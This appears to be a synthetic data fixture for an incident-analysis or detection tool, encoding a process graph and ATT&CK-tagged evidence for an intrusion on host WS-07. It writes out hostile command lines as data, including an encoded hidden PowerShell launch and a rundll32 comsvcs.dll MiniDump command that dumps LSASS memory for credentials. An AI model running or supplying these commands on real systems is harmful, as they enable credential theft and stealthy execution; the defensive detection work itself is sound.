node|explorer|PROCESS|C:\Windows\explorer.exe|C:\Windows\explorer.exe|04:40:00|WS-07
node|chrome|PROCESS|C:\Program Files\Google\chrome.exe|chrome.exe|04:50:00|WS-07
node|file|FILE|C:\Users\jdoe\Downloads\win_opener_x64.exe||04:53:40|WS-07
node|!payload|PROCESS|C:\Users\jdoe\Downloads\win_opener_x64.exe|win_opener_x64.exe|04:54:54|WS-07
node|!ps|PROCESS|C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe|powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA|04:55:10|WS-07
node|!whoami|PROCESS|C:\Windows\System32\whoami.exe|whoami /all|04:56:00|WS-07
node|!rundll|PROCESS|C:\Windows\System32\rundll32.exe|rundll32.exe comsvcs.dll, MiniDump 712 C:\Temp\l.dmp full|05:02:10|WS-07
node|lsass|PROCESS|C:\Windows\System32\lsass.exe||05:02:11|WS-07
node|dump|FILE|C:\Temp\l.dmp||05:02:12|WS-07
node|task|SERVICE|\Microsoft\Updater|schtasks|05:10:00|WS-07
node|c2|ADDRESS|203.0.113.34|443/tcp|04:55:20|WS-07
node|name|DOMAIN|cdn.update-check.example||04:55:19|WS-07
edge|explorer|SPAWNED|chrome|0.95|
edge|chrome|WROTE|file|0.9|
edge|file|RAN|!payload|0.9|
edge|explorer|SPAWNED|!payload|0.95|
edge|!payload|SPAWNED|!ps|0.95|
edge|!ps|SPAWNED|!whoami|0.95|
edge|!ps|SPAWNED|!rundll|0.95|
edge|!rundll|INJECTED|lsass|0.95|0x1fffff
edge|!rundll|WROTE|dump|0.9|
edge|!ps|CREATED|task|0.9|
edge|!ps|LOOKED_UP|name|0.8|
edge|!payload|CONNECTED|c2|0.4|443
evidence|credential-access|T1003.001|LSASS memory opened|CRITICAL|05:02:11|WS-07|!rundll|rundll32.exe comsvcs.dll, MiniDump 712 C:\Temp\l.dmp full|2
evidence|execution|T1059.001|PowerShell With Encoded Command|HIGH|04:55:10|WS-07|!ps|powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA|4
evidence|persistence|T1053.005|Scheduled task that starts a script|HIGH|05:10:00|WS-07|task|\Microsoft\Updater|1
evidence|command-and-control|T1071.001|Connection of a program from a download folder|MEDIUM|04:55:20|WS-07|!payload|203.0.113.34:443|23
evidence|discovery|T1033|Whoami Execution|MEDIUM|04:56:00|WS-07|!whoami|whoami /all|1
evidence|defense-evasion|T1027|Hidden window|MEDIUM|04:55:11|WS-07|!ps|-w hidden|1
evidence|execution|T1204.002|Program run from downloads|MEDIUM|04:54:54|WS-07|!payload|C:\Users\jdoe\Downloads\win_opener_x64.exe|1
missing|LOGONS|WS-07
missing|FILES|
